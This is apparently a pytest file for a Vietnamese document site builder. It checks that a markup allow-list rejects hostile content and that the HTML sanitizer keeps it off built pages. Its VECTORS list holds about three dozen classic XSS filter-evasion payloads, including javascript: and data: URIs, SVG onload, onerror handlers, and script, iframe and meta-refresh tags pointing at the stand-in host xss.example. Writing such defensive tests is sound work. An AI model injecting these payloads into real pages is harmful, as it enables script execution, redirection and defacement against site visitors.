"""Markup in content: the allow-list refuses hostile markup at its line, the sanitizer keeps it off every built
page even past the check, and what a body's Markdown says is what its page shows."""

import re
from html.parser import HTMLParser

import pytest

from conftest import build, copy_project, page
from kb import markup

# Filter-evasion classics (OWASP's cheat sheet and its kin): case, '/' for a space, entities, javascript: and
# data: variants, SVG and MathML, comments that close early, defacement by style, loads from other hosts.
VECTORS = [
    '<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>',
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#39;&#41;>",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    '<SCRIPT/XSS SRC="https://xss.example/xss.js"></SCRIPT>',
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">bấm</a>',
    '<iframe src="https://xss.example/"></iframe>',
    '<object data="https://xss.example/x.swf"></object>',
    '<embed src="https://xss.example/x.swf">',
    '<form action="https://xss.example/"><input type=submit></form>',
    '<meta http-equiv="refresh" content="0;url=https://xss.example/">',
    '<div style="position:fixed;inset:0;background:#fff;z-index:9999">Bảo trì</div>',
    '<a style="position:fixed;top:0" href="https://xss.example/">bấm</a>',
    '<img src="https://xss.example/theo-doi.png">',
    '<link rel=stylesheet href="https://xss.example/x.css">',
    "<style>body{display:none}</style>",
    '<base href="https://xss.example/">',
    "<details open ontoggle=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- a --!><img src=x onerror=alert(1)>",
    "<scr<script>ipt>alert(1)</script>",
    '<b onmouseover="alert(1)">đậm</b>',
    "[bấm](javascript:alert(1))",
    "[bấm](JaVaScRiPt:alert(1))",
    "[bấm](&#106;avascript:alert(1))",
    "![ảnh](https://xss.example/a.png)",
    "![ảnh](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "<https://xss.example/>",
    'Đoạn văn.\n{: onclick="alert(1)" style="position:fixed;inset:0" }',
    "Đoạn văn.\n{: .md-dialog #muc-1 }",
]


@pytest.mark.parametrize("vector", VECTORS)
def test_hostile_markup_in_a_body_is_refused(vector):
    found = markup.problems(f"Kính gửi: Sở Nội vụ.\n\n{vector}\n", 40)
    assert found, vector
    assert all(line in (42, 43) for line, _ in found)


@pytest.mark.parametrize("fine", ["Số 5 < 7 và 9 > 8.", "a <sup>2</sup> và H<sub>2</sub>O", "Dòng một<br>dòng hai",
                                  "<strong>QUYẾT ĐỊNH:</strong>", "<!-- ghi chú của biên tập viên -->",
                                  "&lt;script&gt; là chữ", "1\\. Tổ chức quán triệt.\n{: #muc-1 }",
                                  "## II. NHIỆM VỤ { #muc-ii }", "- Như trên;\n- Lưu: VT.",
                                  "| Đơn vị | Hạn |\n|---|---|\n| Sở Nội vụ | 15/12 |"])
def test_what_verbatim_text_needs_passes(fine):
    assert markup.problems(fine, 1) == []


@pytest.mark.parametrize("line, lost", [("2. Các sở, ban, ngành thực hiện.", "'2.'"), ("Mảnh *rgul* lạ.", "'*'"),
                                        ("> Trích dẫn.", "'>'"), ("Đoạn\n---", "'---'"), ("`mã`", "'`'"),
                                        ("* Mục", "'*'"), ("#Số 5", "không hiện nguyên văn")])
def test_text_that_markdown_would_swallow_is_reported_at_its_line(line, lost):
    found = markup.problems(f"Mở đầu.\n\n{line}\n", 10)
    assert len(found) == 1 and found[0][0] in (12, 13) and lost in found[0][1], found


class _Elements(HTMLParser):
    """Every element of a page and its attributes."""

    def __init__(self):
        super().__init__()
        self.found: list[tuple[str, dict]] = []

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """A build where a page of the site (not a document: the check does not read it) holds every vector."""
    project = copy_project(tmp_path_factory.mktemp("hostile"))
    (project / "docs/thu.md").write_text("# Trang thử\n\nĐoạn đầu.\n\n" + "\n\n".join(VECTORS) + "\n\nĐoạn cuối.\n",
                                         encoding="utf-8")
    out = project / "site"
    result = build(project, out)
    assert result.returncode == 0, result.stderr
    return out


def test_the_sanitizer_keeps_hostile_markup_off_the_built_page(hostile):
    html = (hostile / "thu/index.html").read_text(encoding="utf-8")
    article = html[html.index("<h1", html.index("<article")):html.index("</article>")]  # the page's content
    parser = _Elements()
    parser.feed(article)
    tags = {tag for tag, _ in parser.found}
    assert not tags & {"script", "style", "iframe", "object", "embed", "form", "input", "meta", "link", "base", "svg",
                       "math", "img", "body", "details"}, tags
    for tag, attrs in parser.found:
        assert not [a for a in attrs if a.startswith("on") or a in ("style", "src", "action", "data", "srcset")], (tag, attrs)
        assert not (attrs.get("href") or "").strip().lower().startswith(("javascript", "data:", "vbscript")), (tag, attrs)
        assert not set((attrs.get("class") or "").split()) - {"headerlink"}, (tag, attrs)
    assert "Đoạn đầu." in article  # the text before is kept (an unclosed <style> may take what follows)


def test_a_built_page_loads_nothing_from_another_host(hostile):
    html = (hostile / "thu/index.html").read_text(encoding="utf-8")
    loads = re.findall(r'<(?:script|img|iframe|link|source|embed|object)\b[^>]*?(?:src|href|data)="([^"]*)"', html)
    own = "http://127.0.0.1:8000/"  # the site's address (its canonical link)
    assert loads and not [url for url in loads if re.match(r"(https?:)?//", url) and not url.startswith(own)], loads


def test_every_line_of_every_body_reaches_its_page(site, model):
    """What the check renders is what the site shows: each paragraph of each body is in its built page."""
    for doc_id, held in model.pages.items():
        shown = "".join(page(site, f"van-ban/{doc_id}/").article_text.split())
        at = 0
        for _, lines in markup.paragraphs(held.body):
            text = "".join("".join(lines).split())
            found = shown.find(text, at)
            assert found >= 0, (doc_id, lines[0][:60])
            at = found + len(text)
